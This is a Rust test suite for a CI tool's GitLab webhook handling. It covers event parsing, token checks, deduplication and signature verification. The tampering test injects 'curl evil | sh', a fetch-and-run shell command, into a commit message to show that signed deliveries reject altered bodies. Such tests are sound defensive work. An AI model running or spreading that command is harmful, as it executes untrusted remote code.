//! GitLab deliveries.

use super::*;
use crate::ci::context::{GitRef, MergeRequest, PipelineSource};
use crate::trigger::event::{EventKind, Forge};

pub(super) fn gitlab_headers(recorded: &str) -> Headers {
    let mut headers = Headers::from_lines(recorded);
    headers.insert("X-Gitlab-Token", SECRET);
    headers
}

fn gitlab(headers: &Headers, body: &str) -> Result<Outcome, WebhookError> {
    run(WebhookSource::GitLab, &endpoint(), headers, "", body)
}

#[test]
fn gitlab_push_hook() {
    let (body, recorded) = fixture!("gitlab", "push");
    let (event, key) = expect_event(gitlab(&gitlab_headers(recorded), body));
    assert_eq!(key.as_str(), "gitlab:5f4a1b4e-0b7c-4d3e-9a51-2f3c6d7e8f90");
    let mut expected = Event::new(
        Forge::GitLab,
        "demo",
        EventKind::Push,
        GitRef::Branch("master".into()),
        PipelineSource::Push,
    );
    expected.sha = Some("da1560886d4f094c3e6c9ef40349f7d38b5d27d7".into());
    expected.before_sha = Some("95790bf891e76fee5e1747ab589903a6a1f80f22".into());
    expected.commit_message = Some("fixed readme".into());
    expected.commit_title = Some("fixed readme".into());
    expected.author = Some("GitLab dev user <gitlabdev@dv6700.(none)>".into());
    assert_eq!(event, expected);
}

#[test]
fn gitlab_tag_push_hook() {
    let (body, recorded) = fixture!("gitlab", "tag_push");
    let (event, _) = expect_event(gitlab(&gitlab_headers(recorded), body));
    let mut expected = Event::new(
        Forge::GitLab,
        "demo",
        EventKind::TagPush,
        GitRef::Tag("v1.0.0".into()),
        PipelineSource::Push,
    );
    expected.sha = Some("82b3d5ae55f7080f1e6022629cdb57bfae7cccc7".into());
    expected.before_sha = Some("0000000000000000000000000000000000000000".into());
    expected.author = Some("John Smith".into());
    assert_eq!(event, expected);
}

#[test]
fn gitlab_branch_deletion_is_ignored() {
    let (body, recorded) = fixture!("gitlab", "push");
    let body = body.replace(
        r#""after": "da1560886d4f094c3e6c9ef40349f7d38b5d27d7""#,
        r#""after": "0000000000000000000000000000000000000000""#,
    );
    let body = body.replace(
        r#""checkout_sha": "da1560886d4f094c3e6c9ef40349f7d38b5d27d7""#,
        r#""checkout_sha": null"#,
    );
    assert_eq!(
        ignored(gitlab(&gitlab_headers(recorded), &body)),
        "branch `master` was deleted"
    );
}

fn gitlab_mr(iid: u64, title: &str, source: &str, target: &str, labels: &[&str]) -> MergeRequest {
    MergeRequest {
        iid,
        title: title.into(),
        source_branch: source.into(),
        target_branch: target.into(),
        diff_base_sha: None,
        labels: labels.iter().map(|l| l.to_string()).collect(),
    }
}

#[test]
fn gitlab_merge_request_open() {
    let (body, recorded) = fixture!("gitlab", "merge_request");
    let (event, key) = expect_event(gitlab(&gitlab_headers(recorded), body));
    assert_eq!(key.as_str(), "gitlab:9d0c6a3e-2b4f-4e1a-8f7d-1c5e3a9b2d60");
    let mut expected = Event::new(
        Forge::GitLab,
        "demo",
        EventKind::MergeRequest,
        GitRef::Branch("ms-viewport".into()),
        PipelineSource::MergeRequestEvent,
    );
    expected.sha = Some("da1560886d4f094c3e6c9ef40349f7d38b5d27d7".into());
    expected.fetch_ref = Some("refs/merge-requests/1/head".into());
    expected.merge_request = Some(gitlab_mr(
        1,
        "MS-Viewport",
        "ms-viewport",
        "master",
        &["API"],
    ));
    expected.commit_message = Some("fixed readme".into());
    expected.commit_title = Some("fixed readme".into());
    expected.author = Some("GitLab dev user <gitlabdev@dv6700.(none)>".into());
    assert_eq!(event, expected);
}

#[test]
fn gitlab_merge_request_update_needs_new_commits() {
    let (body, recorded) = fixture!("gitlab", "merge_request");
    let headers = gitlab_headers(recorded);
    let update = body.replace(r#""action": "open""#, r#""action": "update""#);
    assert_eq!(
        ignored(gitlab(&headers, &update)),
        "merge request updated without new commits"
    );
    let pushed = update.replace(
        r#""action": "update""#,
        r#""action": "update", "oldrev": "95790bf891e76fee5e1747ab589903a6a1f80f22""#,
    );
    let (event, _) = expect_event(gitlab(&headers, &pushed));
    assert_eq!(event.kind, EventKind::MergeRequest);
    let closed = body.replace(r#""action": "open""#, r#""action": "close""#);
    assert_eq!(
        ignored(gitlab(&headers, &closed)),
        "merge request action `close` is not acted on"
    );
}

#[test]
fn gitlab_note_recheck_and_non_match() {
    let (body, recorded) = fixture!("gitlab", "note_merge_request");
    let headers = gitlab_headers(recorded);
    assert_eq!(
        ignored(gitlab(&headers, body)),
        "comment does not match the recheck pattern"
    );

    let recheck = body.replace("This MR needs work.", "/recheck");
    let (event, _) = expect_event(gitlab(&headers, &recheck));
    let mut expected = Event::new(
        Forge::GitLab,
        "demo",
        EventKind::Recheck,
        GitRef::Branch("master".into()),
        PipelineSource::MergeRequestEvent,
    );
    expected.sha = Some("562e173be03b8ff2efb05345d12df18815438a4b".into());
    expected.fetch_ref = Some("refs/merge-requests/1/head".into());
    expected.merge_request = Some(gitlab_mr(
        1,
        "Tempora et eos debitis quae laborum et.",
        "master",
        "markdown",
        &["Afterpod", "Element"],
    ));
    expected.commit_message =
        Some("Merge branch 'another-branch' into 'master'\n\nCheck in this test\n".into());
    expected.commit_title = Some("Merge branch 'another-branch' into 'master'".into());
    expected.author = Some("John Smith <john@example.com>".into());
    assert_eq!(event, expected);

    // A project's own pattern replaces the default.
    let mut custom = endpoint();
    custom.recheck = Regex::new(r"^retest please$").unwrap();
    let retest = body.replace("This MR needs work.", "retest please");
    let delivery = Delivery {
        headers: &headers,
        query: "",
        body: retest.as_bytes(),
    };
    assert!(matches!(
        crate::trigger::webhook::gitlab::receive(&custom, &delivery, now()),
        Ok(Outcome::Event(..))
    ));
    let delivery = Delivery {
        headers: &headers,
        query: "",
        body: recheck.as_bytes(),
    };
    assert!(matches!(
        crate::trigger::webhook::gitlab::receive(&custom, &delivery, now()),
        Ok(Outcome::Ignored { .. })
    ));
}

#[test]
fn gitlab_unhandled_events_are_ignored_with_the_reason() {
    let (body, recorded) = fixture!("gitlab", "pipeline");
    assert_eq!(
        ignored(gitlab(&gitlab_headers(recorded), body)),
        "GitLab event `Pipeline Hook` is not acted on"
    );
    let mut headers = Headers::from_lines("X-Gitlab-Event: Job Hook");
    headers.insert("X-Gitlab-Token", SECRET);
    assert_eq!(
        ignored(gitlab(&headers, "not even json")),
        "GitLab event `Job Hook` is not acted on"
    );
}

#[test]
fn gitlab_wrong_or_missing_token() {
    let (body, recorded) = fixture!("gitlab", "push");
    let mut wrong = Headers::from_lines(recorded);
    wrong.insert("X-Gitlab-Token", "test-secret-0b1f5f");
    assert!(unauthorized(gitlab(&wrong, body)).contains("does not match"));
    let missing = Headers::from_lines(recorded);
    assert!(unauthorized(gitlab(&missing, body)).contains("missing X-Gitlab-Token"));
}

#[test]
fn gitlab_malformed_body_is_bad_request() {
    let (_, recorded) = fixture!("gitlab", "push");
    let err = gitlab(&gitlab_headers(recorded), "{\"ref\": ").unwrap_err();
    assert_eq!(err.status_code(), 400);
    assert!(
        err.to_string()
            .starts_with("malformed webhook delivery: Push Hook: "),
        "{err}"
    );
    let err = gitlab(&gitlab_headers(recorded), r#"{"ref": "refs/heads/x"}"#).unwrap_err();
    assert!(err.to_string().contains("missing field `after`"), "{err}");
}

#[test]
fn gitlab_without_delivery_id_dedups_by_body_hash() {
    let (body, _) = fixture!("gitlab", "push");
    let headers = gitlab_headers("X-Gitlab-Event: Push Hook");
    let (_, key) = expect_event(gitlab(&headers, body));
    assert_eq!(key, DedupKey::body_hash(body.as_bytes()));
}

pub(super) fn signed_gitlab(body: &str, recorded: &str, timestamp: u64) -> Headers {
    let mut headers = gitlab_headers(recorded);
    let id = "5f4a1b4e-0b7c-4d3e-9a51-2f3c6d7e8f90";
    let ts = timestamp.to_string();
    let other = standard_signature(b"an old key", id, &ts, body.as_bytes());
    let good = standard_signature(SIGNING_KEY, id, &ts, body.as_bytes());
    headers.insert("webhook-id", id);
    headers.insert("webhook-timestamp", &ts);
    headers.insert("webhook-signature", &format!("{other} {good}"));
    headers
}

pub(super) fn signing_endpoint() -> Endpoint {
    let mut endpoint = endpoint();
    endpoint.signing_token = Some(SecretString::from(SIGNING_TOKEN));
    endpoint
}

#[test]
fn gitlab_signing_token_accepts_any_valid_signature() {
    let (body, recorded) = fixture!("gitlab", "push");
    let headers = signed_gitlab(body, recorded, NOW - 60);
    let (event, _) = expect_event(run(
        WebhookSource::GitLab,
        &signing_endpoint(),
        &headers,
        "",
        body,
    ));
    assert_eq!(
        event.sha.as_deref(),
        Some("da1560886d4f094c3e6c9ef40349f7d38b5d27d7")
    );
}

#[test]
fn gitlab_signature_rejects_tampering_staleness_and_absence() {
    let (body, recorded) = fixture!("gitlab", "push");
    let endpoint = signing_endpoint();
    let headers = signed_gitlab(body, recorded, NOW);
    let tampered = body.replace("fixed readme", "fixed readme; curl evil | sh");
    assert!(
        unauthorized(run(
            WebhookSource::GitLab,
            &endpoint,
            &headers,
            "",
            &tampered
        ))
        .contains("no webhook-signature matches")
    );

    let stale = signed_gitlab(body, recorded, NOW - 301);
    assert!(
        unauthorized(run(WebhookSource::GitLab, &endpoint, &stale, "", body))
            .contains("more than 5 minutes")
    );
    let future = signed_gitlab(body, recorded, NOW + 301);
    assert!(
        unauthorized(run(WebhookSource::GitLab, &endpoint, &future, "", body))
            .contains("more than 5 minutes")
    );

    let unsigned = gitlab_headers(recorded);
    assert!(
        unauthorized(run(WebhookSource::GitLab, &endpoint, &unsigned, "", body))
            .contains("missing webhook-id")
    );
}
